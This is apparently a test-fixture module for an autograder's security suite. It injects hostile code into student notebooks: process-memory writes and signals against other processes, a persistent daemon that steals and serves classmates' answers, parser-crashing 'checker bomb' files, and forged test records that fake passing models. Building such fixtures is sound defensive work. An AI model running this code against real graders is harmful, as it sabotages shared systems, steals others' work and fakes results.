            for _atk_path in _atk_glob.glob("/scratch/**/*", recursive=True):
                if _atk_path.endswith((".json", ".npz", ".log")) and not _atk_path.startswith("/scratch/.") :
                    _atk_write(_atk_path, '{"crash": "spoiled by the student before you"}')
                    _atk_seen.add(_atk_path)
            _atk_time.sleep(0.02)
        _atk_os._exit(0)
    _atk_os._exit(0)
_atk_os.waitpid(_atk_first, 0)
print("daemon left behind")
"""

STOP_PARENT = r"""
# ---- freeze my parent, so that nobody comes after me ----
import signal
_atk_parent = _atk_os.getppid()
if not _ATK["host"] and _atk_parent > 1 and _atk_parent not in _ATK["protected"]:
    try:
        _atk_os.kill(_atk_parent, signal.SIGSTOP)
        print("stopped", _atk_parent)
    except OSError as _atk_error:
        print("stop:", _atk_error)
"""


# Against warm workers: reach every process in sight, by every means a process has.
REACH_OTHERS = r"""
# ---- write into the memory of every process I can see; trace them; signal them ----
import ctypes, signal
_atk_libc = ctypes.CDLL(None, use_errno=True)
_atk_me = _atk_os.getpid()
_atk_mine = set()
for _atk_task in _atk_os.listdir(f"/proc/{_atk_me}/task"):
    _atk_mine.add(int(_atk_task))
_atk_seen = sorted(int(p) for p in _atk_os.listdir("/proc") if p.isdigit())
_atk_report = {"visible": _atk_seen}

class _atk_iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

def _atk_first_writable(pid):
    for _atk_line in _atk_read(f"/proc/{pid}/maps").splitlines():
        _atk_range, _atk_perms = _atk_line.split()[:2]
        if "w" in _atk_perms:
            return int(_atk_range.split("-")[0], 16)
    return 0x400000

if not _ATK["host"]:  # on a grader without a sandbox, these pids are the machine's
    for _atk_pid in sorted(set(_atk_seen) | set(range(1, 400))):
        if _atk_pid in _ATK["protected"] or _atk_pid in _atk_mine:
            continue
        _atk_where = _atk_first_writable(_atk_pid)
        _atk_result = {}
        try:
            _atk_fd = _atk_os.open(f"/proc/{_atk_pid}/mem", _atk_os.O_RDWR)
            _atk_os.pwrite(_atk_fd, b"\xcc" * 64, _atk_where)
            _atk_result["mem"] = "written"
        except OSError as _atk_error:
            _atk_result["mem"] = type(_atk_error).__name__
        _atk_result["ptrace"] = (_atk_libc.ptrace(16, _atk_pid, 0, 0), ctypes.get_errno())
        _atk_result["poke"] = (_atk_libc.ptrace(5, _atk_pid, ctypes.c_void_p(_atk_where), ctypes.c_void_p(0xCC)), ctypes.get_errno())
        _atk_buffer = ctypes.create_string_buffer(b"\xcc" * 64)
        _atk_local = _atk_iovec(ctypes.cast(_atk_buffer, ctypes.c_void_p), 64)
        _atk_remote = _atk_iovec(ctypes.c_void_p(_atk_where), 64)
        _atk_result["vm_writev"] = (
            _atk_libc.process_vm_writev(_atk_pid, ctypes.byref(_atk_local), 1, ctypes.byref(_atk_remote), 1, 0),
            ctypes.get_errno(),
        )
        for _atk_signal in (signal.SIGSTOP, signal.SIGKILL):
            try:
                _atk_os.kill(_atk_pid, _atk_signal)
                _atk_result[_atk_signal.name] = "sent"
            except OSError as _atk_error:
                _atk_result[_atk_signal.name] = type(_atk_error).__name__
        if any(v in ("written", "sent") or (isinstance(v, tuple) and v[0] >= 0) for v in _atk_result.values()):
            _atk_report[_atk_pid] = _atk_result
    try:
        _atk_os.kill(-1, signal.SIGSTOP)  # every process I may signal, at once
    except OSError as _atk_error:
        _atk_report["kill -1"] = type(_atk_error).__name__
print("reached:", _atk_json.dumps(_atk_report)[:3000])
"""

# Against warm workers: stay alive after my run, by every means, and steal what comes next.
THIEF = r"""
# ---- outlive my run: a daemon, a thread, leftovers in every writable place ----
import ctypes, fcntl, signal, socket, threading
_atk_loot_places = ["/tmp", "/dev/shm", _atk_os.path.expanduser("~"), "/scratch", "/var/tmp", "/run/lock"]
_atk_look_in = ["/inbox", "/runs", "/scratch", "/tmp", "/dev/shm", "/", "/proc"]

def _atk_plans():
    # Every plan, request or notebook in reach that holds someone's answers.
    found = []
    for _atk_top in _atk_look_in:
        for _atk_path in _atk_glob.glob(_atk_top + "/**/*.json", recursive=True)[:500] + _atk_glob.glob("/proc/*/cwd/*.json") + _atk_glob.glob("/proc/*/root/scratch/*.json"):
            _atk_text = _atk_read(_atk_path)
            if "def alpaca_model" in _atk_text and "_atk_" not in _atk_text:
                found.append(_atk_text)
    return found

def _atk_hoard(texts):
    for _atk_text in texts:
        for _atk_place in _atk_loot_places:
            if _atk_may_harm(_atk_place):
                try:
                    with open(_atk_os.path.join(_atk_place, "alpaca-loot.json"), "w") as _atk_handle:
                        _atk_handle.write(_atk_text)
                except OSError:
                    pass

def _atk_serve():
    # An abstract unix socket and a FIFO that hand the loot to whoever asks.
    try:
        _atk_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _atk_server.bind("\0alpaca-loot")
        _atk_server.listen(4)
        _atk_server.settimeout(0.05)
    except OSError:
        _atk_server = None
    _atk_end = _atk_time.monotonic() + 300
    _atk_loot = []
    while _atk_time.monotonic() < _atk_end:
        _atk_loot = _atk_plans() or _atk_loot
        _atk_hoard(_atk_loot)
        if _atk_server is not None:
            try:
                _atk_client, _ = _atk_server.accept()
                _atk_client.sendall((_atk_loot[0] if _atk_loot else "nothing yet").encode())
                _atk_client.close()
            except OSError:
                pass
        _atk_time.sleep(0.05)

if not _ATK["host"]:
    # A file lock, a FIFO and a socket file left in every writable place.
    for _atk_place in _atk_loot_places:
        if not _atk_may_harm(_atk_place):
            continue
        try:
            _atk_lock = open(_atk_os.path.join(_atk_place, "alpaca-loot.lock"), "w")
            fcntl.flock(_atk_lock, fcntl.LOCK_EX)
            _atk_os.mkfifo(_atk_os.path.join(_atk_place, "alpaca-loot.fifo"))
            socket.socket(socket.AF_UNIX).bind(_atk_os.path.join(_atk_place, "alpaca-loot.sock"))
        except OSError:
            pass
    # A thread that keeps stealing while I run, and a daemon that outlives me.
    threading.Thread(target=_atk_serve, daemon=False).start()
    if _atk_os.fork() == 0:
        _atk_os.setsid()
        if _atk_os.fork() == 0:
            for _atk_signal in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(_atk_signal, signal.SIG_IGN)
            ctypes.CDLL(None).prctl(15, b"alpaca-loot", 0, 0, 0)  # PR_SET_NAME: findable from outside
            _atk_serve()
        _atk_os._exit(0)
    _atk_os.wait()
    print("thief left behind")
"""

# Graded after the thief and a classmate: take whatever the thief left, and use it.
COLLECTOR = r"""
# ---- collect what the student before me stole ----
import socket
_atk_stolen = {}
_atk_texts = []
for _atk_place in ["/tmp", "/dev/shm", _atk_os.path.expanduser("~"), "/scratch", "/var/tmp", "/run/lock", "/inbox", "/runs"]:
    for _atk_path in _atk_glob.glob(_atk_place + "/**/alpaca-loot*", recursive=True) + _atk_glob.glob(_atk_place + "/**/*.json", recursive=True)[:200]:
        _atk_texts.append(_atk_read(_atk_path))
try:
    _atk_client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _atk_client.settimeout(2)
    _atk_client.connect("\0alpaca-loot")
    _atk_texts.append(_atk_client.recv(10_000_000).decode("utf-8", "replace"))
except OSError as _atk_error:
    print("no loot socket:", type(_atk_error).__name__)
for _atk_text in _atk_texts:
    try:
        _atk_steps = _atk_json.loads(_atk_text)["steps"]
    except Exception:
        continue
    for _atk_step in _atk_steps:
        _atk_source = _atk_step.get("source") or ""
        if _atk_step.get("grade_id") in ("data_augmenter", "alpaca_model", "fine_tune") and "NotImplementedError" not in _atk_source and "_atk_" not in _atk_source:
            _atk_stolen[_atk_step["grade_id"]] = _atk_source
print("collected answers:", sorted(_atk_stolen))
"""

# Against the checker: records that no honest run writes, to break or outlast the checker.
CHECKER_BOMB = r"""
# ---- hand the checker records made to hurt it ----
import artifacts as _atk_artifacts
_atk_real_dump = _atk_artifacts.dump

def _atk_dump(record, path):
    # An .npz whose header promises 2**40 floats, and a JSON nested past any parser's depth.
    _atk_real_dump(record, path)
    _atk_header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }"
    _atk_header += b" " * (118 - len(_atk_header)) + b"\n"
    import zipfile
    with zipfile.ZipFile(path + ".npz", "w") as _atk_zip:
        _atk_zip.writestr("w0.npy", b"\x93NUMPY\x01\x00v\x00" + _atk_header + b"\x00" * 64)
    with open(path + ".json", "w") as _atk_handle:
        _atk_handle.write("[" * 200_000 + "]" * 200_000)

_atk_artifacts.dump = _atk_dump
"""


# --------------------------------------------------------------------------------------
# Building the notebooks
# --------------------------------------------------------------------------------------


def _cell(notebook, grade_id):
    for candidate in notebook.cells:
        if candidate.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return candidate
    raise KeyError(grade_id)


def _prepend(notebook, grade_id, code):
    notebook = copy.deepcopy(notebook)
    target = _cell(notebook, grade_id)
    target.source = code.strip("\n") + "\n\n\n" + target.source
    return notebook


def _append(notebook, grade_id, code):
    notebook = copy.deepcopy(notebook)
    target = _cell(notebook, grade_id)
    target.source = target.source.rstrip("\n") + "\n\n\n" + code.strip("\n") + "\n"
    return notebook


def noop_tests(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + NOOP_TESTS)


def fake_modules(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + FAKE_MODULES)


def ipython_hooks(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + IPYTHON_HOOKS)


def gradebook(release, scope):
    notebook = _prepend(release, "data_augmenter", toolkit(scope) + GRADEBOOK)
    # Once more at the end, when the grader has created my rows everywhere.
    return _prepend(notebook, "fine_tune", GRADEBOOK)


def _steal(release, scope, finder):
    notebook = _prepend(release, "data_augmenter", toolkit(scope) + finder)
    for grade_id in ANSWERS:
        notebook = _append(notebook, grade_id, USE_STOLEN.replace("{grade_id}", grade_id))
    return notebook


def master(release, scope):
    """Find the master: show it and all else the grader hides, and use its answers."""
    notebook = _steal(release, scope, MASTER_FIND + LEAK)
    notebook = _prepend(notebook, "alpaca_model", LEAK_HISTORY)
    notebook = _prepend(notebook, "fine_tune", LEAK_HISTORY)
    # A scratch cell after every test cell, in case scratch cells run.
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cells.append(nbformat.v4.new_code_cell(LEAK_HISTORY.strip()))
    notebook.cells = cells
    return notebook


def classmate(release, scope):
    return _steal(release, scope, CLASSMATE_FIND)


def tamper(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + TAMPER)


def forge(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + FORGE)


def _first_and_last(release, scope, code):
    """The attack before the first answer and again before the last (the state differs)."""
    notebook = _prepend(release, "data_augmenter", toolkit(scope) + code)
    return _prepend(notebook, "fine_tune", code)


def kill_parent(release, scope):
    return _first_and_last(release, scope, KILL_PARENT)


def linger(release, scope):
    return _prepend(release, "fine_tune", toolkit(scope) + LINGER)


def stop_parent(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + STOP_PARENT)


def reach_others(release, scope):
    return _first_and_last(release, scope, REACH_OTHERS)


def thief(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + THIEF)


def collector(release, scope):
    notebook = _prepend(release, "data_augmenter", toolkit(scope) + COLLECTOR)
    for grade_id in ANSWERS:
        notebook = _append(notebook, grade_id, USE_STOLEN.replace("{grade_id}", grade_id))
    return notebook


def checker_bomb(release, scope):
    return _prepend(release, "data_augmenter", toolkit(scope) + CHECKER_BOMB)


HOSTILE = {
    "noop_tests": noop_tests,
    "fake_modules": fake_modules,
    "ipython_hooks": ipython_hooks,
    "gradebook": gradebook,
    "master": master,
    "classmate": classmate,
    "tamper": tamper,
    "forge": forge,
    "kill_parent": kill_parent,
    "linger": linger,
    "stop_parent": stop_parent,
    "reach_others": reach_others,
    "thief": thief,
    "collector": collector,
    "checker_bomb": checker_bomb,
}


# --------------------------------------------------------------------------------------
# Honest but messy notebooks (built from the solution)
# --------------------------------------------------------------------------------------


def chdir_scratch(solution):
    """The solution, with a scratch cell after the first test that changes directory."""
    notebook = copy.deepcopy(solution)
    index = notebook.cells.index(_cell(notebook, "data_augmenter_test"))
    scratch = nbformat.v4.new_code_cell("import os\n\nos.chdir('/')\nprint(os.listdir('.'))")
    notebook.cells.insert(index + 1, scratch)
    return notebook


def marked(solution, marker):
    """The solution, with a comment only this student wrote in each answer cell."""
    notebook = copy.deepcopy(solution)
    for grade_id in ANSWERS:
        target = _cell(notebook, grade_id)
        target.source = f"# {marker}\n" + target.source
    return notebook


def duplicated_test(solution):
    """The solution, with the learner's copy of a test cell (same nbgrader metadata)."""
    notebook = copy.deepcopy(solution)
    original = _cell(notebook, "alpaca_model_test")
    twin = copy.deepcopy(original)
    twin.pop("id", None)
    twin["id"] = "duplicated-test"
    notebook.cells.insert(notebook.cells.index(original) + 1, twin)
    return notebook


def kernel_death_after_two(solution, release):
    """Exercises 1 and 2 solved; the fine_tune cell kills the kernel."""
    notebook = copy.deepcopy(solution)
    _cell(notebook, "fine_tune").source = (
        "import os\n\nos._exit(1)\n\n\n" + _cell(release, "fine_tune").source
    )
    return notebook


def hang_after_two(solution, release):
    """Exercises 1 and 2 solved; the fine_tune cell never ends."""
    notebook = copy.deepcopy(solution)
    _cell(notebook, "fine_tune").source = (
        "while True:\n    pass\n\n\n" + _cell(release, "fine_tune").source
    )
    return notebook


# --------------------------------------------------------------------------------------
# Checking and cleaning up after the attacks
# --------------------------------------------------------------------------------------


def snapshot(files) -> dict[str, str]:
    """Return {path: sha256 or 'missing'} of every file given (symlinks followed)."""
    import hashlib

    digests = {}
    for path in files:
        path = pathlib.Path(path)
        try:
            digests[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        except (FileNotFoundError, IsADirectoryError):
            digests[str(path)] = "missing"
    return digests


def files_under(root, skip=lambda relative: False) -> list[pathlib.Path]:
    """Every file under ``root`` (links followed for files, not for folders), sorted.

    ``skip(relative posix path)`` leaves out a file or a whole folder.
    """
    root = pathlib.Path(root)
    found = []
    for folder, dirs, names in os.walk(root):
        relative = pathlib.Path(folder).relative_to(root)
        dirs[:] = sorted(d for d in dirs if not skip((relative / d).as_posix()))
        found += [pathlib.Path(folder) / n for n in names if not skip((relative / n).as_posix())]
    return sorted(found)


def differences(before: dict, after: dict, ignore_new=lambda path: False) -> list[str]:
    changed = []
    for path in sorted(set(before) | set(after)):
        if path not in before:
            if not ignore_new(path):
                changed.append(f"new: {path}")
        elif before[path] != after.get(path, "missing"):
            changed.append(f"{'removed' if path not in after else 'changed'}: {path}")
    return changed


_BLOCK = re.compile(r"\n?#? ?" + re.escape(MARK) + r"\n?")


def clean_up(roots) -> list[str]:
    """Remove every probe the attacks left under ``roots``; return what was found."""
    cleaned = []
    for root in roots:
        root = pathlib.Path(root)
        if not root.exists():
            continue
        walk = [root] if root.is_file() else None
        for folder, dirs, names in (
            os.walk(root) if walk is None else [(root.parent, [], [root.name])]
        ):
            dirs[:] = [d for d in dirs if d not in (".git", "node_modules", ".venv")]
            for name in names:
                path = pathlib.Path(folder) / name
                if path.is_symlink() or not path.is_file() or path.stat().st_size > 5_000_000:
                    continue
                try:
                    text = path.read_text(encoding="utf-8")
                except (UnicodeDecodeError, OSError):
                    continue
                if MARK not in text:
                    continue
                if name.startswith(PROBE_PREFIX):
                    path.unlink()
                else:
                    path.write_text(_BLOCK.sub("", text), encoding="utf-8")
                cleaned.append(str(path))
    return cleaned


def python_sources(notebook) -> list[str]:
    return [cell.source for cell in notebook.cells if cell.cell_type == "code"]


# --------------------------------------------------------------------------------------
# Forged records (issue 18): the answers stay stubs; the first answer cell replaces the
# produce half of each public test, so that the driver writes records the attacker made
# up. tests/test_hostile_input.py runs them.
# --------------------------------------------------------------------------------------

FORGE_RECORDS = r'''
import h5py as _atk_h5
import keras as _atk_k
import numpy as _atk_np
import public_tests as _atk_pt
import test_utils as _atk_tu
import utils as _atk_u

_ATK_VARIANT = __VARIANT__
_ATK_TOTAL = 2_257_984  # the non-trainable parameters the frozen test expects


def _atk_imagenet(name):
    with _atk_h5.File(_atk_u.mobilenet_weights(), "r") as weights:
        group = weights[name][name]
        return _atk_np.array(group["kernel:0" if "kernel:0" in group else "kernel"])


def _atk_fake_base(h, w):
    """7 layers named like MobileNetV2, two ImageNet kernels, filler to the parameter total."""
    inputs = _atk_k.Input((h, w, 3))
    x = _atk_k.layers.Conv2D(32, 3, strides=2, padding="same", use_bias=False, name="Conv1")(inputs)
    x = _atk_k.layers.Conv2D(320, 1, strides=16, padding="same", use_bias=False, name="block_16_project")(x)
    x = _atk_k.layers.Conv2D(1280, 1, use_bias=False, name="Conv_1")(x)
    for units in (391, 800, 1280):  # 1280*391 + 391*800 + 800*1280 fills the total exactly
        x = _atk_k.layers.Dense(units, use_bias=False)(x)
    base = _atk_k.Model(inputs, x, name=f"mobilenetv2_1.00_{h}")
    base.get_layer("Conv1").set_weights([_atk_imagenet("Conv1")])
    base.get_layer("Conv_1").set_weights([_atk_imagenet("Conv_1")])
    return base


def _atk_renamed_base(h, w):
    """A chain of cheap layers, each carrying the name of MobileNetV2's layer at its place."""
    real = _atk_k.applications.MobileNetV2(input_shape=(h, w, 3), include_top=False, weights=None)
    names = [layer.name for layer in real.layers][1:]
    inputs = _atk_k.Input((h, w, 3))
    x = _atk_k.layers.Conv2D(32, 3, strides=2, padding="same", use_bias=False, name="Conv1")(inputs)
    x = _atk_k.layers.Conv2D(1280, 1, strides=16, padding="same", use_bias=False, name="filler")(x)
    for name in names[1:]:
        x = _atk_k.layers.Identity(name=name)(x)
    base = _atk_k.Model(inputs, x, name=real.name)
    base.get_layer("Conv1").set_weights([_atk_imagenet("Conv1")])
    return base


def _atk_partial_base(h, w):
    """The real architecture, random weights but for the two kernels the old test compared."""
    base = _atk_k.applications.MobileNetV2(input_shape=(h, w, 3), include_top=False, weights=None)
    base.get_layer("Conv1").set_weights([_atk_imagenet("Conv1")])
    base.get_layer("Conv_1").set_weights([_atk_imagenet("Conv_1")])
    return base


def _atk_alpaca(image_shape, augmenter):
    h, w = image_shape
    base = {"fake_base": _atk_fake_base, "renamed_layers": _atk_renamed_base,
            "partial_weights": _atk_partial_base}[_ATK_VARIANT](h, w)
    base.trainable = False
    inputs = _atk_k.Input((h, w, 3))
    x = _atk_tu.augmenter(augmenter)(inputs)
    x = _atk_k.applications.mobilenet_v2.preprocess_input(x)
    x = base(x, training=False)
    x = _atk_k.layers.GlobalAveragePooling2D()(x)
    x = _atk_k.layers.Dropout(0.2)(x)
    outputs = _atk_k.layers.Dense(1)(x)
    return _atk_k.Model(inputs, outputs)


_ATK_RETURNED = {"type": "Functional", "none": False, "sequence_length": None, "is_layer": True,
                 "is_model": True, "is_sequential": False, "callable": True, "name": None}


def _atk_produce_alpaca(target, image_shape=(160, 160), augmenter=_atk_pt.TEST_AUGMENTER):
    if _ATK_VARIANT == "claims":
        return {"returned": dict(_ATK_RETURNED)}  # a model claimed, none given
    return {"returned": dict(_ATK_RETURNED),
            "model": _atk_tu.model_record(_atk_alpaca(tuple(image_shape), augmenter))}


def _atk_produce_augmenter(target):
    claimed = dict(_ATK_RETURNED, type="Sequential", is_sequential=True)
    if _ATK_VARIANT == "claims":
        return {"returned": claimed}
    tiny = _atk_k.Sequential([_atk_k.Input((4,)), _atk_k.layers.Dense(1)], name="x")
    return {"returned": claimed, "model": _atk_tu.model_record(tiny)}


_ATK_COMPILE = {  # what a correct fine_tune() compiles, written by hand
    "optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                  "config": {"name": "adam", "learning_rate": 0.0001}, "registered_name": None},
    "loss": {"module": "keras.losses", "class_name": "BinaryCrossentropy",
             "config": {"name": "binary_crossentropy", "from_logits": True}, "registered_name": None},
    "metrics": [{"module": "keras.metrics", "class_name": "BinaryAccuracy",
                 "config": {"name": "accuracy", "threshold": 0.0}, "registered_name": None}],
}


def _atk_produce_fine_tune(target, fine_tune_at=120, base_learning_rate=0.001):
    compiled = {k: (dict(v, config=dict(v["config"], learning_rate=base_learning_rate / 10))
                    if k == "optimizer" else v) for k, v in _ATK_COMPILE.items()}
    record = {"returned": dict(_ATK_RETURNED), "same_model": True, "new_optimizer": True,
              "compile": compiled}
    if _ATK_VARIANT != "claims":
        # A small model of its own, with a "mobilenetv2" layer, stands for the one handed over.
        inner = _atk_k.Sequential([_atk_k.Input((4,)), _atk_k.layers.Dense(2)], name="mobilenetv2_x")
        inputs = _atk_k.Input((4,))
        model = _atk_k.Model(inputs, _atk_k.layers.Dense(1)(inner(inputs)))
        record["model"] = _atk_tu.model_record(model)
    return record


for _atk_name, _atk_forged in (
    ("data_augmenter_test", _atk_produce_augmenter),
    ("alpaca_model_test", _atk_produce_alpaca),
    ("frozen_base_test", _atk_produce_alpaca),
    ("fine_tune_test", _atk_produce_fine_tune),
    ("fine_tune_compile_test", _atk_produce_fine_tune),
):
    _atk_pt.TESTS[_atk_name] = (_atk_forged, _atk_pt.TESTS[_atk_name][1])
'''
FORGED_VARIANTS = ("fake_base", "renamed_layers", "partial_weights", "claims")


def forge_records_code(variant: str) -> str:
    """The attack code of one forged-record variant (see FORGED_VARIANTS)."""
    return FORGE_RECORDS.replace("__VARIANT__", repr(variant))


def forge_records(release, variant):
    """Stubs left as released; the first answer cell makes the driver write forged records."""
    return _prepend(release, ANSWERS[0], forge_records_code(variant))
